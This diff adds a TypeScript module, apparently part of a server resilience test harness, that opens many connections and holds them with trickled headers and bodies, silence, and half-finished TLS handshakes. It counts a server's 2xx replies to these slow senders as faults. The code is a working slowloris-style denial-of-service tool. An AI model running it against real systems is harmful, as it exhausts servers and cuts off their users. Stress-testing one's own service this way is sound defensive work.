@@ -1,0 +1,127 @@
+/**
+ * Clients that take a connection and give next to nothing for it (slowloris and its kin): a header or a body that trickles in, a
+ * byte a second, silence, silence after the handshake of TLS, and a handshake that stops in the middle.
+ */
+import { connect, type Socket } from 'node:net';
+import { connect as connectTls } from 'node:tls';
+import type { Attack } from './attack.ts';
+
+export interface SlowOptions {
+  readonly plainUrl: string;
+  /** Null where no TLS is spoken. */
+  readonly tlsUrl: string | null;
+  readonly count: number;
+  readonly openPerS: number;
+  readonly sources: readonly string[];
+  readonly channel: string;
+}
+
+interface Sender {
+  readonly socket: Socket;
+  /** A byte a second follows. */
+  readonly trickles: boolean;
+  readonly way: (typeof ways)[number] | 'handshake';
+  readonly sinceMs: number;
+}
+
+const OPEN_EVERY_MS = 20;
+const TRICKLE_EVERY_MS = 1_000;
+/** The head of a record of 512 bytes with a ClientHello, and no more. */
+const HALF_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);
+
+const ways = ['header', 'body', 'silence'] as const;
+
+export class SlowSenders implements Attack {
+  readonly #options: SlowOptions;
+  readonly #sockets = new Set<Socket>();
+  readonly #held = new Set<Sender>();
+  readonly #timers: NodeJS.Timeout[];
+  #isResting = false;
+  #opened = 0;
+  #peak = 0;
+  #answered2xx = 0;
+  readonly #longestMs = { header: 0, body: 0, silence: 0, handshake: 0 };
+
+  constructor(options: SlowOptions) {
+    this.#options = options;
+    const perTick = (options.openPerS * OPEN_EVERY_MS) / 1000;
+    let due = 0;
+    const opening = setInterval(() => {
+      for (due += perTick; due >= 1 && this.#opened < options.count; due--) this.#open(this.#opened++);
+    }, OPEN_EVERY_MS);
+    this.#timers = [opening, setInterval(() => this.#trickle(), TRICKLE_EVERY_MS)];
+  }
+
+  get figures() {
+    return {
+      opened: this.#opened,
+      held: this.#held.size,
+      'held in a body': [...this.#held].filter(({ way }) => way === 'body').length,
+      peak: this.#peak,
+      'answered 2xx': this.#answered2xx,
+      'header, ms': Math.round(this.#longestMs.header),
+      'body, ms': Math.round(this.#longestMs.body),
+      'silence, ms': Math.round(this.#longestMs.silence),
+      'handshake, ms': Math.round(this.#longestMs.handshake),
+    };
+  }
+
+  async faults(): Promise<readonly string[]> {
+    return this.#answered2xx === 0 ? [] : [`${this.#answered2xx} slow senders were answered 2xx`];
+  }
+
+  /** No more bytes trickle. */
+  rest(): void {
+    this.#isResting = true;
+  }
+
+  stop(): void {
+    for (const timer of this.#timers) clearInterval(timer);
+    for (const socket of this.#sockets) socket.destroy();
+  }
+
+  #open(index: number): void {
+    const { plainUrl, tlsUrl, sources } = this.#options;
+    const isTls = tlsUrl !== null && index % 2 === 0;
+    const { hostname, port } = new URL(isTls ? tlsUrl : plainUrl);
+    const where = { host: hostname, port: Number(port), localAddress: sources[index % sources.length]! };
+    const turn = Math.floor(index / 2) % (isTls ? ways.length + 1 : ways.length);
+    // Only over TLS there is a fourth.
+    const way = ways[turn] ?? 'handshake';
+    const isHandshake = way === 'handshake';
+    const secure = { ...where, ALPNProtocols: ['http/1.1'], rejectUnauthorized: false };
+    const socket = isTls && !isHandshake ? connectTls(secure) : connect(where);
+    socket.once(isTls && !isHandshake ? 'secureConnect' : 'connect', () => {
+      const trickles = way === 'header' || way === 'body';
+      if (isHandshake) socket.write(HALF_HELLO);
+      else if (trickles) socket.write(this.#begun(way));
+      this.#hold({ socket, trickles, way, sinceMs: performance.now() });
+    });
+    this.#sockets.add(socket);
+    socket.on('error', () => {}).once('close', () => this.#sockets.delete(socket));
+    socket.on('data', (bytes) => {
+      if (/^HTTP\/1\.1 2/.test(bytes.toString('latin1'))) this.#answered2xx++;
+    });
+  }
+
+  #begun(way: 'header' | 'body'): string {
+    const { channel } = this.#options;
+    if (way === 'header') return `POST /c/${channel} HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nX: `;
+    return `POST /c/${channel} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n`;
+  }
+
+  #hold(sender: Sender): void {
+    this.#held.add(sender);
+    this.#peak = Math.max(this.#peak, this.#held.size);
+    sender.socket.once('close', () => {
+      this.#held.delete(sender);
+      const ms = performance.now() - sender.sinceMs;
+      this.#longestMs[sender.way] = Math.max(this.#longestMs[sender.way], ms);
+    });
+  }
+
+  #trickle(): void {
+    if (this.#isResting) return;
+    for (const { socket, trickles } of this.#held) if (trickles) socket.write('x');
+  }
+}
